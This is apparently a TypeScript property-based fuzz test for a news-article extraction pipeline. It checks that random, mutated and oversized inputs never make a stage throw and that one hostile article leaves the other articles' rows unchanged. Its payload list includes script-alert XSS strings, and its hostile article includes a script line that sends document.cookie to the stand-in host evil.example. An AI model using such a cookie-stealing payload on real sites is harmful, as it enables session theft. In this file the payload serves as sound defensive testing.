/**
 * Hostile input never breaks the pipeline: random strings, random bytes and mutated real articles
 * go through runPipeline and extractArticle without any stage throwing (a throwing stage would be
 * caught by the guard and leave a "NN-stage: …" warning, so the tests look for those too), and one
 * hostile article changes nothing in the other articles' rows. Runs are bounded to stay fast.
 */
import {readdirSync, readFileSync} from "node:fs";
import {join} from "node:path";
import fc from "fast-check";
import {beforeAll, describe, expect, it} from "vitest";
import {buildContext, extractArticle, runPipeline, type Tables} from "../../src/pipeline/index.ts";
import type {Article, SourceFile} from "../../src/pipeline/types.ts";
import {articleRows} from "../fixtures/hostile/article-rows.ts";

const actorsCsv = readFileSync("data/reference/actors.csv", "utf8");
const outletsCsv = readFileSync("data/reference/outlets.csv", "utf8");
const ctx = buildContext({actorsCsv, outletsCsv});
const encoder = new TextEncoder();

/** Templates to mutate: the five seeds and a few own gold articles (other subjects). */
const TEMPLATES = [
  ...readdirSync("data/corpus").filter((n) => n.endsWith(".txt")).map((n) => readFileSync(join("data/corpus", n), "utf8")),
  ...["g02_exchange_state.txt", "g06_sahel_tabloid.txt", "g09_flood_state.txt", "g13_plane_broadcaster.txt"].map((n) => readFileSync(join("test/fixtures/gold/corpus", n), "utf8"))
];

/** Things that tend to break text code: quotes, digits, separators, bidi/zero-width, astral chars, markup. */
const PAYLOADS = [
  '"', "“", "”", "‘", "’", "'", "«", "»", "0", "7", "1,200", "3.5", "2,000,000,000,000", "-", "–", "—", "\n", "\n\n", "\r\n", "\t", " ", "\u00a0",
  "\u200b", "\u200e", "\u202e", "\ufeff", "\u0000", "\u0301", "🙂", "𝟏𝟐", "é", "İ", "ß", "ﬁ", "<script>alert(1)</script>", "<b>", "</p>", "&amp;", "&#x27;",
  "...", "Mr.", "U.S.", "(", ")", "[", "]", "on Monday", "last October", "03.02.2025", "31.02.2025", "between", "and", "at least", "some", "all but",
  "Hamas", "released", "told", "said", "---\ntitle: x\n---\n", "a".repeat(300), "9".repeat(40)
];

function asArticle(text: string): Article {
  return {
    articleId: "a_test", file: "test.txt", outlet: null, outletSource: "none", published: "2025-02-03", publishedSource: "manifest",
    publishedInferred: false, url: null, title: null, dayFirst: true, text, offsetMap: {textStart: [], rawStart: []},
    words: text.split(/\s+/).length, status: "ok", warnings: []
  };
}

/** Warnings written when a per-article or corpus stage threw (the guard's "NN-name: message"). */
function stageErrors(t: Tables): string[] {
  return t.warnings.map((w) => w.message).filter((m) => /^(0[2-9]|1[01])-[a-z]+:/.test(m));
}

function run(files: SourceFile[], manifest: string | null = null): Tables {
  return runPipeline({files, manifest, actorsCsv, outletsCsv});
}

const mutated = fc
  .tuple(
    fc.integer({min: 0, max: TEMPLATES.length - 1}),
    fc.array(fc.tuple(fc.nat(), fc.constantFrom(...PAYLOADS), fc.boolean()), {minLength: 1, maxLength: 25})
  )
  .map(([k, edits]) => {
    let text = TEMPLATES[k];
    for (const [pos, payload, replace] of edits) {
      const at = pos % (text.length + 1);
      text = text.slice(0, at) + payload + text.slice(replace ? Math.min(text.length, at + payload.length) : at);
    }
    return text;
  });

describe("never throws", () => {
  it("random unicode strings through runPipeline", () => {
    fc.assert(
      fc.property(fc.string({unit: "binary", maxLength: 3000}), (s) => {
        const t = run([{path: "r.txt", bytes: encoder.encode(s)}]);
        expect(stageErrors(t)).toEqual([]);
      }),
      {numRuns: 25, seed: 1}
    );
  });
  it("random bytes through runPipeline", () => {
    fc.assert(
      fc.property(fc.uint8Array({maxLength: 4000}), fc.constantFrom("r.txt", "r.html", "r.md", "r.bin"), (bytes, path) => {
        const t = run([{path, bytes}]);
        expect(stageErrors(t)).toEqual([]);
      }),
      {numRuns: 25, seed: 2}
    );
  });
  it("random strings through extractArticle (no ingestion in front)", () => {
    fc.assert(
      fc.property(fc.string({unit: "grapheme", maxLength: 3000}), (s) => {
        expect(extractArticle(asArticle(s), ctx).warnings).toEqual([]);
      }),
      {numRuns: 80, seed: 3}
    );
  });
  it("mutated real articles through runPipeline", () => {
    fc.assert(
      fc.property(mutated, fc.constantFrom("m.txt", "m.html", "m.md"), (text, path) => {
        expect(stageErrors(run([{path, bytes: encoder.encode(text)}]))).toEqual([]);
      }),
      {numRuns: 20, seed: 4}
    );
  });
  it("mutated real articles through extractArticle", () => {
    fc.assert(
      fc.property(mutated, (text) => {
        expect(extractArticle(asArticle(text), ctx).warnings).toEqual([]);
      }),
      {numRuns: 100, seed: 5}
    );
  });
  it.each([
    ["a 200 KB line without spaces", "x".repeat(200_000)],
    ["a 100 KB run of digits and commas", "1,".repeat(50_000)],
    ["50,000 newlines", "\n".repeat(50_000)],
    ["nested quotes", '"“‘'.repeat(20_000)],
    ["markup only", "<div><script>alert(1)</script><p>".repeat(2_000)],
    ["hedges without numbers", "at least some more than nearly between and ".repeat(3_000)]
  ])("%s", (_label, text) => {
    expect(stageErrors(run([{path: "big.txt", bytes: encoder.encode(text)}]))).toEqual([]);
    expect(extractArticle(asArticle(text), ctx).warnings).toEqual([]);
  });
});

describe("a hostile article only changes its own rows", () => {
  const folder = "test/fixtures/gold/corpus";
  const files: SourceFile[] = readdirSync(folder).filter((n) => n !== "manifest.csv").sort().map((n) => ({path: n, bytes: new Uint8Array(readFileSync(join(folder, n)))}));
  const manifest = readFileSync(join(folder, "manifest.csv"), "utf8");
  const hostileText = [
    "<script>document.location='http://evil.example/'+document.cookie</script>",
    "BREAKING: \u202eevil\u202c \u0000\u0001\u0002 " + "9".repeat(400) + " hostages released on Monday,,,,\"\"\"",
    "x".repeat(60_000),
    "Between between and and at least at least " + "1,".repeat(5_000),
    "---\ntitle: [unclosed\n---\n<html><body><p>31.02.2025 — 99:99 GMT</p>",
    "\n".repeat(2_000) + "“".repeat(500)
  ].join("\n\n");
  const hostile: SourceFile = {path: "zz_hostile.txt", bytes: encoder.encode(hostileText)};
  let without: Tables;
  let withHostile: Tables;
  beforeAll(() => {
    without = run(files, manifest);
    withHostile = run([hostile, ...files], manifest);
  }, 60_000);

  const others = (t: Tables, hostileId: string | undefined) => articleRows(t, (id) => id !== hostileId);
  it("the hostile article is ingested (not silently dropped)", () => {
    expect(withHostile.articles.find((a) => a.file === "zz_hostile.txt")).toBeDefined();
    expect(stageErrors(withHostile)).toEqual([]);
  });
  it("other articles' sentences, figures, events, interactions and mentions are unchanged", () => {
    const id = withHostile.articles.find((a) => a.file === "zz_hostile.txt")?.article_id;
    expect(others(withHostile, id)).toEqual(others(without, undefined));
  });
});
